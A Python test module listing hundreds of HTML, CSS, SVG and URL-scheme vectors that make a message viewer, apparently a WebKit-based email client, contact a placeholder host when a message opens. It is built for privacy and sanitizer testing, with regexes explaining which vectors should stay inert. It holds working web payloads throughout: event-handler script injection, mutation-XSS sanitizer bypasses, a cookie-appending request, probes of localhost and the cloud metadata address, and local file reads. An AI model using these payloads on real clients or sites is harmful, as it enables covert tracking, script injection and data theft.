"""Ways to phone home, by kind: what HTML, CSS, SVG or MIME can do so that somebody learns that a message was opened.

A line is a vector.  {u} is a web address and {h} a host name of its own, so that a query or a packet tells which vector it was;
{p} is a port of its own, for addresses that need no name.  A vector that swallows what comes behind it ends with {end}: it stands last
in its message.
"""

import re

SCRIPT = "new Image().src='{u}';document.title='ran'"

KINDS = {}

# ---- elements that fetch ----
KINDS['picture'] = r'''
<img src="{u}">
<IMG SRC={u}>
<img src=//{h}/a.png>
<img src="\\{h}\a.png">
<img src="/\{h}/a.png">
<img src="http:\\{h}\a">
<img src="http:/{h}/a">
<img src="http:{h}">
<img src="ht&#10;tp://{h}/a">
<img src=" &#1; {u}">
<img src="&#104;&#116;&#116;&#112;://{h}/a">
<img src="hTTp://{h}/a">
<img src="http://user:secret@{h}/a">
<img src="http://{h}:8080/a">
<img src="https://{h}/a">
<img src="ftp://{h}/a">
<img src="ws://{h}/a">
<img src="http://{h}%2e/a">
<img src="http://ⓥ.{h}/a">
<img src='{u}' width=1 height=1>
<img src='{u}' style="display:none">
<img src='{u}' loading=lazy>
<img src='{u}' loading=eager fetchpriority=high decoding=sync>
<img src='{u}' crossorigin=anonymous referrerpolicy=unsafe-url>
<img src=x srcset="{u} 1x">
<img srcset="{u} 100w, {u}b 2000w" sizes="100vw">
<img srcset="{u}">
<img lowsrc="{u}" src="cid:none">
<img dynsrc="{u}">
<img longdesc="{u}" src="{u}l">
<img usemap="{u}" src="{u}m">
<image src="{u}">
<image href="{u}">
<picture><source srcset="{u}"><img></picture>
<picture><source media="(min-width:1px)" srcset="{u} 1x, {u}2 2x"><img src=x></picture>
<picture><source type="image/webp" srcset="{u}"><img alt=a></picture>
<picture><img src="{u}"></picture>
<input type=image src="{u}">
<input type=image srcset="{u}" formaction="{u}f">
<table background="{u}"><tr><td>a</table>
<table><tr background="{u}"><td>a</table>
<table><tr><td background="{u}">a</table>
<table><tr><th background="{u}">a</table>
<table><tbody background="{u}"><tr><td>a</table>
<div background="{u}">a</div>
<bgsound src="{u}">
<figure><img src="{u}"><figcaption>a</figcaption></figure>
<center><font><img src="{u}"></font></center>
<a href="https://ok.example/"><img src="{u}" border=0></a>
<marquee><img src="{u}"></marquee>
<svg><foreignObject><img src="{u}"></foreignObject></svg>
<math><mtext><img src="{u}"></mtext></math>
<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>
<noscript><img src="{u}"></noscript>
<noscript><p title="</noscript><img src='{u}'>">
<template><img src="{u}"></template>
<template shadowrootmode=open><img src="{u}"></template>
<div><template shadowrootmode="closed"><img src="{u}"></template></div>
<select><option><img src="{u}"></select>
<table><img src="{u}"><tr><td>a</table>
<p><img/src="{u}"/>
<img
src
=
{u}>
<img alt='a>' src='{u}'>
<img alt="`" src=`{u}` src="{u}">
<img src="{u}"<p>
<<img src="{u}">
<img/x=y/src="{u}">
<a><b><a><img src="{u}"></a></b></a>
<o:p><v:imagedata src="{u}" o:href="{u}o"></o:p>
<v:rect><v:fill type=frame src="{u}"/></v:rect>
<!--[if gte mso 9]><v:image src="{u}"/><![endif]--><img src="{u}n">
<![if !vml]><img src="{u}"><![endif]>
<!--><img src="{u}">-->
<!-- --!><img src="{u}"> -->
<!---><img src="{u}">-->
<![CDATA[><img src="{u}">]]>
<?xml version="1.0"?><img src="{u}">
</p><img src="{u}">
</html></body><img src="{u}">
<title></title><img src="{u}">
<style></style><img src="{u}">
<style>/*</style><img src="{u}">*/</style>
<script></script><img src="{u}">
<xmp></xmp><img src="{u}">
<iframe></iframe><img src="{u}">
<noembed></noembed><img src="{u}">
<noframes></noframes><img src="{u}">
<textarea></textarea><img src="{u}">
<plaintext></plaintext><img src="{u}">{end}
<textarea><img src="{u}">{end}
<title><img src="{u}">{end}
<select><img src="{u}">{end}
<img src="{u}{end}
<!-- <img src="{u}">{end}
'''

KINDS['media'] = r'''
<video src="{u}" autoplay muted></video>
<video poster="{u}"></video>
<video preload=auto src="{u}"></video>
<video><source src="{u}"></video>
<video autoplay><source src="{u}" type="video/mp4"><track default src="{u}t"></video>
<video controls><track kind=captions srclang=en default src="{u}"></video>
<audio src="{u}" autoplay></audio>
<audio preload=auto src="{u}"></audio>
<audio><source src="{u}"></audio>
<video src="rtsp://{h}/a" autoplay></video>
<video src="{u}#t=1" poster="{u}p" autoplay loop playsinline></video>
<source src="{u}" srcset="{u}s">
<track src="{u}" default>
<object data="{u}"></object>
<object data="{u}" type="image/png"></object>
<object data="{u}" type="text/html"></object>
<object data="{u}" type="image/svg+xml"></object>
<object data="{u}" type="application/pdf"></object>
<object codebase="{u}" classid="java:a.class"></object>
<object classid="{u}"></object>
<object archive="{u}"></object>
<object type="application/x-shockwave-flash"><param name=movie value="{u}"></object>
<object><param name=src value="{u}"><embed src="{u}e"></object>
<embed src="{u}">
<embed src="{u}" type="image/svg+xml">
<embed src="{u}" type="application/pdf">
<embed type="text/html" src="{u}">
<embed code="{u}" pluginspage="{u}p" pluginurl="{u}q">
<applet code="a.class" codebase="{u}"></applet>
<applet archive="{u}" code="a"></applet>
<model src="{u}"></model>
<portal src="{u}"></portal>
<fencedframe src="{u}"></fencedframe>
<canvas><img src="{u}"></canvas>
'''

KINDS['frame'] = r'''
<iframe src="{u}"></iframe>
<iframe src="//{h}/a"></iframe>
<iframe srcdoc="<img src='{u}'>"></iframe>
<iframe srcdoc="&lt;img src='{u}'&gt;"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url={u}'>"></iframe>
<iframe srcdoc="<link rel=stylesheet href='{u}'>"></iframe>
<iframe srcdoc="<script>new Image().src='{u}'</script>"></iframe>
<iframe srcdoc="<iframe src='{u}'></iframe>"></iframe>
<iframe src="data:text/html,<img src='{u}'>"></iframe>
<iframe src="data:text/html;base64,{b64img}"></iframe>
<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>"></iframe>
<iframe src="javascript:'<img src={u}>'"></iframe>
<iframe src="about:blank#{u}" longdesc="{u}" name="{u}"></iframe>
<iframe loading=lazy src="{u}"></iframe>
<iframe sandbox="allow-scripts allow-same-origin" src="{u}"></iframe>
<iframe csp="default-src *" src="{u}"></iframe>
<iframe credentialless src="{u}"></iframe>
<iframe allow="autoplay *" allowfullscreen src="{u}"></iframe>
<iframe src="file:///etc/hostname"></iframe>
<iframe src="view-source:{u}"></iframe>
<iframe src="blob:{u}"></iframe>
<iframe src="filesystem:{u}"></iframe>
<iframe src="cid:none" srcdoc="<body background='{u}'>"></iframe>
<frameset><frame src="{u}"></frameset>
<frameset onload="new Image().src='{u}'"><frame></frameset>
<frameset rows=*><frame src="data:text/html,<img src={u}>"></frameset>
<frame src="{u}">
<ilayer src="{u}"></ilayer>
<layer src="{u}"></layer>
<object data="data:text/html,<img src='{u}'>"></object>
<object data="data:text/html,<script>new Image().src='{u}'</script>"></object>
<embed src="data:text/html,<img src='{u}'>">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='new Image().src=&quot;{u}&quot;'/>">
'''

KINDS['head'] = r'''
<link rel=stylesheet href="{u}">
<link rel="alternate stylesheet" title=a href="{u}">
<link rel=stylesheet media=print href="{u}">
<link rel=stylesheet href="data:text/css,@import url({u});">
<link rel=preload as=image href="{u}">
<link rel=preload as=font crossorigin href="{u}">
<link rel=preload as=image imagesrcset="{u} 1x">
<link rel=prefetch href="{u}">
<link rel=prerender href="{u}">
<link rel=preconnect href="{s}">
<link rel=preconnect crossorigin href="{s}">
<link rel=dns-prefetch href="//{h}">
<link rel="dns-prefetch preconnect" href="{s}">
<link rel=modulepreload href="{u}">
<link rel=icon href="{u}">
<link rel="shortcut icon" href="{u}">
<link rel=apple-touch-icon href="{u}">
<link rel=mask-icon href="{u}" color=red>
<link rel=manifest href="{u}">
<link rel=import href="{u}">
<link rel=search type="application/opensearchdescription+xml" href="{u}">
<link rel=next href="{u}">
<link rel=canonical href="{u}">
<link rel=pingback href="{u}">
<link rel=compression-dictionary href="{u}">
<link rel="preload" as="script" href="{u}">
<link rel="preload" as="style" href="{u}" onload="this.rel='stylesheet'">
<meta http-equiv=refresh content="0;url={u}">
<meta http-equiv=refresh content="0;{u}">
<META HTTP-EQUIV="Refresh" CONTENT="1; URL='{u}'">
<meta http-equiv=refresh content="0;url=data:text/html,<img src='{u}'>">
<meta http-equiv=refresh content="0;url=javascript:new Image().src='{u}'">
<meta http-equiv="Link" content="<{u}>;rel=stylesheet">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://{h}/">a</a>
<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *;report-uri {u}"><img src="http://blocked.example/">
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none';report-uri {u}">
<meta name="msapplication-TileImage" content="{u}">
<meta property="og:image" content="{u}"><meta name="twitter:image" content="{u}t">
<meta charset=utf-7>+ADw-img src=+ACI-{u}+ACI-+AD4-
<base href="{u}"><img src="a.png">
<base href="//{h}/"><link rel=stylesheet href="a.css"><img src="b.png">
<base target="_top" href="{u}"><form action=x>
<html manifest="{u}">
<head profile="{u}">
<body background="{u}">
<body style="background:url({u})">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{u}"]}]}</script>
<script type=importmap>{"imports":{"a":"{u}"}}</script>
<?xml-stylesheet type="text/css" href="{u}"?>
<?import namespace="t" implementation="{u}">
<!DOCTYPE html SYSTEM "{u}">
<!DOCTYPE a [<!ENTITY b SYSTEM "{u}">]><p>&b;</p>
<!ENTITY % c SYSTEM "{u}">%c;
'''

# ---- CSS ----
CSS = '''background:url({u})
background:url('{u}')
background:url( "{u}" )
background:URL({u})
background:u\\72l({u})
background:\\75 rl({u})
background:u\\000072 l({u})
background:/**/url({u})
background:ur/**/l({u})
background:url({u}
background:url(//{h}/a)
background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>")
background:url({u}) no-repeat,red url({u}2)
background:image("{u}")
background:src("{u}")
background:image-set("{u}" 1x)
background:-webkit-image-set(url({u}) 1x)
background:cross-fade(url({u}),red)
background:-webkit-cross-fade(url({u}),url({u}2),50%)
background:-webkit-canvas(a),url({u})
background:paint(a),url({u})
background:element(#a),url({u})
background:var(--a,url({u}))
--a:url({u});background:var(--a)
background-image:url({u})
background-image:linear-gradient(red,blue),url({u})
border-image:url({u}) 10
border:1px solid;border-image-source:url({u})
-webkit-border-image:url({u}) 10
list-style:url({u});display:list-item
list-style-image:url({u});display:list-item
cursor:url({u}),auto
content:url({u})
content:url({u}) / "a"
mask:url({u})
mask-image:url({u})
-webkit-mask:url({u})
-webkit-mask-image:url({u})
mask-border:url({u}) 10
-webkit-mask-box-image:url({u})
-webkit-box-reflect:below 1px url({u})
filter:url({u}#a)
-webkit-filter:url({u}#a)
backdrop-filter:url({u}#a)
clip-path:url({u}#a)
shape-outside:url({u});float:left
offset-path:url({u}#a)
fill:url({u}#a)
marker:url({u}#a)
behavior:url({u})
-moz-binding:url({u}#a)
width:expression(new Image().src='{u}')
filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{u}')
symbols:url({u})
background:attr(data-x url)" data-x="{u}
background:url({u})!important
BACKGROUND : URL ( {u} )
font-family:'a';background:url({u})
font-family:'a;b';background:url({u})
color:red}*{background:url({u})
background:red;;;:;background:url({u})
background:\\
url({u})
color:red;@import url({u});'''

RULES = '''@import "{u}";
@import url({u});
@import url({u}) screen;
@import url("{u}") layer(a);
@import url("{u}") supports(display:grid);
@IMPORT "{u}";
@\\69mport "{u}";
/**/@import "{u}";
@charset "utf-8";@import "{u}";
<!-- @import "{u}"; -->
@import 'data:text/css,@import"{u}";';
p{color:red}@import "{u}";
@font-face{font-family:f;src:url({u})}p{font-family:f}
@font-face{font-family:g;src:local(none),url({u}) format("woff2")}*{font-family:g}
@font-face{font-family:h;src:url({u}) tech(variations);unicode-range:U+0-FFFF}body{font:1em h}
@font-feature-values f{@styleset{a:1}}@font-face{font-family:i;src:url('{u}')}b{font-family:i}
@namespace url({u});p{color:red}
@namespace svg url({u});
@media screen{p{background:url({u})}}
@media (min-width:1px){*{background:url({u})}}
@media print{*{background:url({u})}}
@media (prefers-color-scheme:light){*{background:url({u})}}
@media (prefers-color-scheme:dark){*{background:url({u})}}
@supports (display:block){*{background:url({u})}}
@supports not (a:b){*{background:url({u})}}
@layer a{*{background:url({u})}}
@container (min-width:1px){*{background:url({u})}}
@scope (body){*{background:url({u})}}
@starting-style{*{background:url({u})}}
@page{background:url({u})}
@page:first{@top-left{content:url({u})}}
@document url-prefix(){*{background:url({u})}}
@keyframes a{from{background:url({u})}to{background:url({u}2)}}*{animation:a 1s}
@-webkit-keyframes b{0%{background-image:url({u})}}*{-webkit-animation:b 1s infinite}
@counter-style c{system:cyclic;symbols:url({u})}li{list-style:c}
@property --x{syntax:"<image>";inherits:false;initial-value:url({u})}p{background:var(--x)}
@color-profile a{src:url({u})}
@view-transition{navigation:auto}*{background:url({u})}
*{background:url({u})}
*,*::before{content:"";background:url({u})}
p::before{content:url({u})}
p::after{content:url("{u}")}
p::first-letter{background:url({u})}
p::first-line{background:url({u})}
li::marker{content:url({u})}
::selection{background:url({u})}
::placeholder{background:url({u})}
::-webkit-scrollbar{background:url({u})}
::-webkit-scrollbar-thumb{background-image:url({u})}
::backdrop{background:url({u})}
:root{--b:url({u})}p{background:var(--b)}
:root:has(p){background:url({u})}
:is(p,b){background:url({u})}
:not(q){background:url({u})}
:where(body){background:url({u})}
a:link{background:url({u})}
a:visited{background:url({u})}
a:not(:visited){background:url({u})}
p:hover,p{background:url({u})}
p:nth-child(n){background:url({u})}
p:lang(en),p{background:url({u})}
p[title^="a"],p{background:url({u})}
p{b{background:url({u})}&{background:url({u}2)}}
p{background:red;/*}*/background:url({u})}
p{background:url({u}
}}}*{background:url({u})}
*{background:url({u})}<!--
p{color:red}</style><style>*{background:url({u})}
p{color:"\\"}*{background:url({u})}
p{color:'
}*{background:url({u})}
html,body{background:#fff url({u})}
img{content:url({u})}
@media all{@media all{*{background:url({u})}}}'''

# What rules may mean
MARKUP = '<a href="#">b</a><ul><li>c</li></ul><input placeholder=d><b>e</b><img>'

# ---- SVG ----
KINDS['svg'] = r'''
<svg><image href="{u}" width=9 height=9 /></svg>
<svg><image xlink:href="{u}" width=9 height=9 /></svg>
<svg><use href="{u}#a"/></svg>
<svg><use xlink:href="{u}#a"/></svg>
<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>#a"/></svg>
<svg><feImage href="{u}"/></svg>
<svg><filter id=f><feImage xlink:href="{u}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><rect fill="url({u}#a)" width=9 height=9 /></svg>
<svg><rect stroke="url({u}#a)" width=9 height=9 /></svg>
<svg><rect filter="url({u}#a)" width=9 height=9 /></svg>
<svg><rect mask="url({u}#a)" width=9 height=9 /></svg>
<svg><rect clip-path="url({u}#a)" width=9 height=9 /></svg>
<svg><line marker-start="url({u}#a)" x2=9 y2=9 /></svg>
<svg><rect cursor="url({u})" width=9 height=9 /></svg>
<svg><style>@import "{u}";</style></svg>
<svg><style>*{fill:url({u}#a);background:url({u}b)}</style><rect width=9 height=9 /></svg>
<svg style="background:url({u})" width=9 height=9></svg>
<svg onload="new Image().src='{u}'"></svg>
<svg><script>new Image().src='{u}'</script></svg>
<svg><script href="{u}"/></svg>{end}
<svg><script xlink:href="{u}"></script></svg>
<svg><animate attributeName=href values="{u}" begin=0s><image/></svg>
<svg><image><animate attributeName=href to="{u}" dur=1s /></image></svg>
<svg><image><set attributeName="xlink:href" to="{u}"/></image></svg>
<svg><set onbegin="new Image().src='{u}'" attributeName=x to=1 /></svg>
<svg><animate onbegin="new Image().src='{u}'" attributeName=x dur=1s /></svg>
<svg><a href="{u}"><text y=9>a</text></a></svg>
<svg><linearGradient xlink:href="{u}#a"/></svg>
<svg><pattern href="{u}#a" id=p /><rect fill="url(#p)" width=9 height=9 /></svg>
<svg><tref xlink:href="{u}#a"/></svg>
<svg><textPath href="{u}#a">a</textPath></svg>
<svg><mpath href="{u}#a"/></svg>
<svg><cursor xlink:href="{u}"/></svg>
<svg><font-face><font-face-src><font-face-uri xlink:href="{u}"/></font-face-src></font-face></svg>
<svg><color-profile xlink:href="{u}" name=a /></svg>
<svg><foreignObject><iframe src="{u}"></iframe></foreignObject></svg>
<svg><foreignObject><video src="{u}" autoplay></video></foreignObject></svg>
<svg><foreignObject><body background="{u}" xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>{end}
<svg><desc><img src="{u}"></desc></svg>
<svg><title><img src="{u}"></title></svg>
<svg><p><img src="{u}"></svg>
<svg xml:base="{u}"><image href="a"/></svg>
<svg><discard begin=0s /><image href="{u}"/></svg>
<svg><audio src="{u}" autoplay /></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>">
<img src="data:image/svg+xml;base64,{b64svg}">
<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{u}";</style></svg>'>
<img src="data:text/html,<img src={u}>">
<math href="{u}"><mi>a</mi></math>
<math><maction actiontype="statusline#{u}"><mi>a</mi></maction></math>
<math><mglyph src="{u}" alt=a /></math>
<math xlink:href="{u}"><mi xlink:href="{u}m">a</mi></math>
<math style="background:url({u})"><mi>a</mi></math>
'''

# ---- links and forms that need no click, or none that the reader makes ----
KINDS['link'] = r'''
<a href="http://{h}/">resolved ahead</a>
<a href="https://{h}/">connected ahead</a>
<a href="//{h}/">a</a>
<a href="http://ok.example/" ping="{u}">a</a>
<a href="{u}" autofocus>a</a>
<a href="{u}" download rel="prefetch preconnect dns-prefetch">a</a>
<a href="{u}" attributionsrc="{u}s">a</a>
<a href="{u}" target=_blank rel=opener>a</a>
<area href="{u}" ping="{u}p" shape=default><map name=m><area href="{u}q"></map>
<a href="javascript:new Image().src='{u}'" autofocus>a</a>
<form action="{u}" autocomplete=on><input name=a autofocus><input type=submit></form>
<form action="{u}"><button autofocus>a</button></form>
<form id=f action="{u}"></form><input form=f type=submit formaction="{u}f">
<button formaction="{u}" popovertarget=a>a</button>
<input onfocus="new Image().src='{u}'" autofocus>
<select onfocus="new Image().src='{u}'" autofocus><option>a</select>
<textarea onfocus="new Image().src='{u}'" autofocus>a</textarea>
<keygen name=k challenge=a autofocus onfocus="new Image().src='{u}'">
<isindex action="{u}" prompt=a>
<isindex type=image src="{u}">
<blockquote cite="{u}">a</blockquote>
<q cite="{u}">a</q><ins cite="{u}i">b</ins><del cite="{u}d">c</del>
<div itemscope itemtype="{u}" itemid="{u}i"><link itemprop=a href="{u}p"></div>
<a href="mailto:a@{h}">a</a>
<a href="tel:1"><img src="{u}"></a>
<a href="http://{h}:{p}/">a</a>
<details open ontoggle="new Image().src='{u}'"><summary>a</summary></details>
<dialog open><img src="{u}"></dialog>
<div popover id=a><img src="{u}"></div>
<div contenteditable autofocus onfocus="new Image().src='{u}'">a</div>
<div tabindex=0 autofocus onfocus="new Image().src='{u}'">a</div>
'''

KINDS['script'] = r'''
<script>new Image().src='{u}'</script>
<script src="{u}"></script>
<script type=module>new Image().src='{u}'</script>
<script type=module src="{u}"></script>
<script async defer src="{u}"></script>
<script>fetch('{u}',{mode:'no-cors'})</script>
<script>var x=new XMLHttpRequest();x.open('GET','{u}');x.send()</script>
<script>navigator.sendBeacon('{u}','a')</script>
<script>new WebSocket('ws://{h}/')</script>
<script>new EventSource('{u}')</script>
<script>new Worker(URL.createObjectURL(new Blob(["fetch('{u}')"])))</script>
<script>import('{u}')</script>
<script>importScripts('{u}')</script>
<script>navigator.serviceWorker.register('{u}')</script>
<script>var p=new RTCPeerConnection({iceServers:[{urls:'stun:{h}:3478'}]});p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))</script>
<script>new RTCPeerConnection({iceServers:[{urls:'turn:{h}',username:'a',credential:'b'}]}).createDataChannel('a')</script>
<script>location='{u}'</script>
<script>location.href='{u}'</script>
<script>window.open('{u}')</script>
<script>document.write('<img src={u}>')</script>
<script>document.cookie='a=b';new Image().src='{u}'+document.cookie</script>
<script>new Audio('{u}').play()</script>
<script>new FontFace('a','url({u})').load()</script>
<script>document.body.appendChild(document.createElement('iframe')).src='{u}'</script>
<script>document.createElement('link').href='{u}'</script>
<script>new WebTransport('{s}')</script>
<script>setTimeout("new Image().src='{u}'",1)</script>
<script>eval("new Image().src='{u}'")</script>
<script>top.location='{u}'</script>
<script>parent.postMessage('{u}','*');new Image().src='{u}'</script>
<script>window.webkit.messageHandlers.sosik.postMessage(['click','{u}',''])</script>
<script>new PerformanceObserver(()=>new Image().src='{u}').observe({type:'paint',buffered:true})</script>
<script>customElements.define('a-b',class extends HTMLElement{connectedCallback(){new Image().src='{u}'}})</script><a-b></a-b>
<script language=vbscript>a "{u}"</script>
<script for=window event=onload>new Image().src='{u}'</script>
<scr<script>ipt>new Image().src='{u}'</scr</script>ipt>
<SCRIPT/X>new Image().src='{u}'</SCRIPT>
<script><!--
new Image().src='{u}'
//--></script>
<img src=x onerror="new Image().src='{u}'">
<img src=x onerror=&#110;ew&#32;Image().src='{u}'>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="new Image().src='{u}'" onerror="new Image().src='{u}'">
<body onload="new Image().src='{u}'">
<body onpageshow="new Image().src='{u}'">
<body onresize="new Image().src='{u}'" onscroll="new Image().src='{u}'" onfocus="new Image().src='{u}'">
<p onclick="new Image().src='{u}'" onmouseover="new Image().src='{u}'" onmousemove="new Image().src='{u}'">a</p>
<style onload="new Image().src='{u}'">p{color:red}</style>
<link rel=stylesheet href="data:text/css,p{}" onload="new Image().src='{u}'">
<video onloadstart="new Image().src='{u}'"><source src=x onerror="new Image().src='{u}'"></video>
<audio src=x onerror="new Image().src='{u}'"></audio>
<object data=x onerror="new Image().src='{u}'"></object>
<iframe onload="new Image().src='{u}'"></iframe>
<marquee onstart="new Image().src='{u}'">a</marquee>
<div style="animation:a 1s" onanimationstart="new Image().src='{u}'"></div><style>@keyframes a{to{color:red}}</style>
<div style="transition:color 1s;color:red" ontransitionend="new Image().src='{u}'">a</div>
<math><mtext></mtext><mglyph><style></math><img src onerror="new Image().src='{u}'">{end}
<svg></p><style><a id="</style><img src=1 onerror=new(Image).src='{u}'>">{end}
<form><math><mtext></form><form><mglyph><style></math><img src onerror="new Image().src='{u}'">{end}
<table><style><!--</style><img src=x onerror="new Image().src='{u}'">--></table>
<a href="&#x6A;avascript:new Image().src='{u}'" id=x autofocus onfocus=this.click()>a</a>
<input type=hidden oncontentvisibilityautostatechange="new Image().src='{u}'" style="content-visibility:auto">
'''

# ---- addresses that need no name: this computer and its network ----
KINDS['address'] = r'''
<img src="http://127.0.0.1:{p}/">
<img src="http://localhost:{p}/">
<img src="http://[::1]:{p}/">
<img src="http://0.0.0.0:{p}/">
<img src="http://127.1:{p}/">
<img src="http://2130706433:{p}/">
<img src="http://0x7f.1:{p}/">
<img src="http://0177.0.0.1:{p}/">
<img src="http://[::ffff:127.0.0.1]:{p}/">
<img src="http://10.0.0.1:{p}/">
<img src="http://192.168.0.1:{p}/">
<img src="http://172.16.0.1:{p}/">
<img src="http://169.254.169.254:{p}/latest/meta-data/">
<img src="http://[fe80::1]:{p}/">
<img src="http://45.45.45.99:{p}/">
<iframe src="http://127.0.0.1:{p}/"></iframe>
<link rel=stylesheet href="http://127.0.0.1:{p}/">
<object data="http://127.0.0.1:{p}/"></object>
<style>@import "http://127.0.0.1:{p}/";</style>
<p style="background:url(http://127.0.0.1:{p}/)">a</p>
<script>new WebSocket('ws://127.0.0.1:{p}/')</script>
<img src="file:///etc/hostname">
<img src="file://{h}/share/a.png">
<img src="smb://{h}/share/a.png">
<img src="resource:///org/sosik/Sosik/a.png">
<img src="sosik-remote:http%3A%2F%2F{h}%2Fa">
<img src="sosik-remote:{u}">
<img src="sosik-cid:99999">
<img src="sosik-cid:../1">
<img src="cid:http://{h}/a">
<img src="cid:%00{u}">
<img src="mid:a@{h}/b">
<img src="about:{u}">
<img src="blob:{u}">
<img src="jar:{u}!/a">
<img src="data:image/png,{u}">
<img src="view-source:{u}">
<img src="gopher://{h}/">
<img src="ldap://{h}/">
<img src="imap://{h}/INBOX">
<img src="news:{h}">
<img src="urn:{u}">
<img src="x-remote://{h}/">
'''


# ---- what stays asleep in a web view as it comes, and why it is sent all the same ----
ASLEEP = {
    'wants a click, a pointer, a key or a focus, which nobody gives here':
        r'autofocus|onclick|onresize|ontransitionend|onstart|oncontentvisibility|<form|formaction|<a href="(http|https)?:?//|<a href="{u}"><text'
        r'|^<a href|<area|window\.open|::selection|isindex|a:visited|x-dns-prefetch-control|postMessage\(\[|selection',
    'other programs know it, WebKit does not or no more':
        r'lowsrc|dynsrc|<image href|<div background|bgsound|v:imagedata|v:fill|classid|archive=|x-shockwave|<embed code|<applet|<model|<portal|<fencedframe|<i?layer'
        r'|rel=(prerender|import|search|next|canonical|pingback|compression-dictionary)|="Link"|msapplication|og:image|html manifest|head profile|speculationrules'
        r'|xml-stylesheet|\?import|DOCTYPE|ENTITY|charset=utf-7|behavior|-moz-binding|expression|progid|symbols|marker:|fill:url|image\("|src\("|element\(|attr\('
        r'|color-profile|@document|<tref|<cursor|<mpath|<textPath|<svg><use|linearGradient|<pattern|mglyph|maction|<math (xlink:)?href|xml:base|attributeName="?(xlink:)?href'
        r'|rect (fill|stroke|filter|clip-path|cursor)=|marker-start|(filter|clip-path|offset-path):url|<audio src="{u}" autoplay />|vbscript|cross-fade|WebTransport|@namespace'
        r'|importScripts|srcset="{u}" formaction',
    'text or nothing by the rules of HTML and CSS: sent for the sake of a parser that errs':
        r'^<(textarea|title|select|plaintext)>|plaintext|^<!-- |^<img src="{u}{end}|<template><|alt="`"|img/x=y/|<noscript><p|<frame src="{u}">$|cite=|itemtype|^<(source|track)|about:blank#'
        r'|ur/\*|URL \(|}\*{background:url\({u}\)$|color:red}\*|\\\n|@import url\({u}\);$|color:red}@import|}}}\*|color:"|scr<script|</p><style><a|<mglyph><style>|data=x onerror'
        r"|createElement\('link'\)|importmap|img src=\"data:text/html|javascript:new Image|url=javascript|color:red;@import",
    'a picture of its own, which may not fetch':
        r"data:image/svg",
    'only for another medium, a later time or a part that is not there':
        r'media print|scheme:dark|@page|@container|@starting-style|backdrop|scrollbar-thumb|loading=lazy|<track (default|kind)|<track',
    'for the window around a page, which has none here':
        r'rel="?(shortcut )?(icon|apple-touch-icon|mask-icon|manifest)',
    'would tell of what happens later, or needs a server that answers':
        r'Content-Security-Policy|serviceWorker|RTCPeerConnection|base target|top\.location',
    'an address that the network library refuses, or one of ours':
        r'"(ftp|ws|rtsp|file|smb|resource|sosik-\w+|cid|mid|about|blob|jar|view-source|gopher|ldap|imap|news|urn|x-remote|filesystem|mailto|data:image/png,):?|0\.0\.0\.0|fe80|45\.45',
}


def why_asleep(template):
    """The reason, or None: it is awake."""
    return next((why for why, pattern in ASLEEP.items() if re.search(pattern, template)), None)


def _styles():
    for line in CSS.replace('\\\nurl', '\\\aurl').split('\n'):
        line = line.replace('\a', '\n')
        yield f'<p style="{line}">a</p>' if '"' not in line or 'data-x' in line else "<p style='" + line.replace("'", '&#39;') + "'>a</p>"
    for line in RULES.replace("color:'\n", "color:'\a").replace('({u}\n}}', '({u}\n}}').split('\n'):
        yield '<style>' + line.replace('\a', '\n') + '</style><p title=a>a</p>' + MARKUP


KINDS['css'] = '\n'.join(v.replace('\n', '\a') for v in _styles())


def all_vectors():
    """[(kind, html template)], each once."""
    found = []
    for kind, text in KINDS.items():
        joined = text.replace('<img\nsrc\n=\n{u}>', '<img\asrc\a=\a{u}>').replace('<!--\nnew', '<!--\anew').replace("'\n//-->", "'\a//-->")
        for line in joined.strip('\n').split('\n'):
            if line.strip():
                found.append((kind, line.replace('\a', '\n')))
    return found


if __name__ == '__main__':
    vectors = all_vectors()
    assert len(set(vectors)) == len(vectors), [v for v in vectors if vectors.count(v) > 1]
    for kind in KINDS:
        print(kind, sum(1 for k, _ in vectors if k == kind))
    print(len(vectors))
